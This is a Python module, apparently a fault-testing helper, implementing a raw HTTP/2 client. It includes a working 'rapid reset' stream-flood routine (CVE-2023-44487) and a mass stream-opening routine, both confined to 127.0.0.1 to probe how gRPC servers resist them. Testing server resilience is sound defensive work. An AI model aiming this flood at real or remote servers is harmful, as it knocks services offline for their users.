"""A minimal HTTP/2 client for fault tests, standard library only: enough to
open gRPC streams by hand and reset them (the "rapid reset" pattern,
CVE-2023-44487) or to hold many streams open on one connection.

Frames are built with struct; header blocks use HPACK "literal header field
without indexing, new name" with plain (non-Huffman) strings, so no encoder
state is needed and one block serves every stream. Only 127.0.0.1 is used.
"""

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
NO_ERROR, CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x0, 0x8, 0x7, 0xb
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x5: "STREAM_CLOSED", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0xb: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       stream_id & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits=7, first=0):
    """HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2),
    both strings raw (H bit 0)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name)) + name + hpack_int(len(value)) + value


def grpc_headers(authority, path):
    return b"".join(hpack_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")))


def grpc_message(payload):
    return struct.pack(">BI", 0, len(payload)) + payload


class Connection:
    """One HTTP/2 connection to 127.0.0.1:port. A reader thread answers the
    server's SETTINGS and PINGs and records what it sends back (settings,
    RST_STREAM codes, GOAWAY)."""

    def __init__(self, port, timeout=5.0):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._send_lock = threading.Lock()
        self.server_settings = {}
        self.settings_acked_by_us = threading.Event()
        self.rst_codes = {}
        self.goaway = None          # (last_stream_id, error code, debug text)
        self.closed = threading.Event()
        self.headers_frames = 0
        self.conn_window = 65535    # what we may still send as DATA on the connection
        self._window_lock = threading.Lock()
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self._reader = threading.Thread(target=self._read_loop, daemon=True)
        self._reader.start()

    def send(self, data):
        with self._send_lock:
            self.sock.sendall(data)

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("closed by the server")
            buf += chunk
        return buf

    def _read_loop(self):
        self.sock.settimeout(None)
        try:
            while True:
                head = self._recv_exact(9)
                hi, lo, ftype, flags, sid = struct.unpack(">BHBBI", head)
                payload = self._recv_exact((hi << 16) | lo)
                sid &= 0x7FFFFFFF
                if ftype == SETTINGS and not flags & ACK:
                    for k in range(0, len(payload) - 5, 6):
                        key, value = struct.unpack(">HI", payload[k:k + 6])
                        self.server_settings[key] = value
                    self.send(frame(SETTINGS, ACK, 0))
                    self.settings_acked_by_us.set()
                elif ftype == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif ftype == RST_STREAM:
                    code = struct.unpack(">I", payload[:4])[0]
                    self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
                elif ftype == GOAWAY:
                    last, code = struct.unpack(">II", payload[:8])
                    self.goaway = (last & 0x7FFFFFFF, code, payload[8:].decode(errors="replace"))
                elif ftype == WINDOW_UPDATE and sid == 0:
                    with self._window_lock:
                        self.conn_window += struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                elif ftype == DATA and payload:
                    # Keep the server able to send on this connection.
                    self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
                elif ftype == HEADERS:
                    self.headers_frames += 1
        except (OSError, ConnectionError, struct.error):
            pass
        finally:
            self.closed.set()

    def take_window(self, n):
        """Reserves n bytes of connection send window; False if too few."""
        with self._window_lock:
            if self.conn_window < n:
                return False
            self.conn_window -= n
            return True

    def new_stream_ids(self, count):
        first = self.next_stream
        self.next_stream += 2 * count
        return range(first, first + 2 * count, 2)

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(timeout=5)


def rapid_reset(port, path, message, seconds, batch=50, stop=None):
    """Opens streams (HEADERS, then DATA with `message` and END_STREAM while
    the connection window lasts) and resets each at once with
    RST_STREAM(CANCEL), as fast as it can, for `seconds` or until the
    threading.Event `stop` is set; opens a new connection when the server
    closes one. Returns a dict of counts."""
    authority = "127.0.0.1:%d" % port
    block = grpc_headers(authority, path)
    body = grpc_message(message)
    stats = {"streams": 0, "with_data": 0, "connections": 0, "goaways": [], "rst_codes": {},
             "send_errors": 0}
    started = time.monotonic()
    deadline = started + seconds
    conn = None
    while time.monotonic() < deadline and not (stop is not None and stop.is_set()):
        if conn is None or conn.closed.is_set() or conn.goaway is not None:
            if conn is not None:
                if conn.goaway is not None:
                    stats["goaways"].append(conn.goaway)
                for code, n in conn.rst_codes.items():
                    stats["rst_codes"][code] = stats["rst_codes"].get(code, 0) + n
                conn.close()
            try:
                conn = Connection(port)
            except OSError:
                stats["send_errors"] += 1
                time.sleep(0.05)
                conn = None
                continue
            stats["connections"] += 1
        out = []
        for sid in conn.new_stream_ids(batch):
            out.append(frame(HEADERS, END_HEADERS, sid, block))
            if conn.take_window(len(body)):
                out.append(frame(DATA, END_STREAM, sid, body))
                stats["with_data"] += 1
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        try:
            conn.send(b"".join(out))
            stats["streams"] += batch
        except OSError:
            stats["send_errors"] += 1
            conn.closed.set()
    if conn is not None:
        if conn.goaway is not None:
            stats["goaways"].append(conn.goaway)
        for code, n in conn.rst_codes.items():
            stats["rst_codes"][code] = stats["rst_codes"].get(code, 0) + n
        conn.close()
    stats["seconds"] = time.monotonic() - started
    return stats


def open_streams(port, path, count, wait=2.0):
    """Opens `count` streams on one connection (HEADERS without END_STREAM,
    never reset) after acknowledging the server's SETTINGS; waits `wait` s
    and returns (server settings, RST_STREAM codes received, GOAWAY or None,
    whether the connection was closed)."""
    conn = Connection(port)
    try:
        conn.settings_acked_by_us.wait(5)
        time.sleep(0.2)  # let the server see our ACK before the streams
        block = grpc_headers("127.0.0.1:%d" % port, path)
        conn.send(b"".join(frame(HEADERS, END_HEADERS, sid, block)
                           for sid in conn.new_stream_ids(count)))
        conn.closed.wait(wait)
        return dict(conn.server_settings), dict(conn.rst_codes), conn.goaway, conn.closed.is_set()
    finally:
        conn.close()
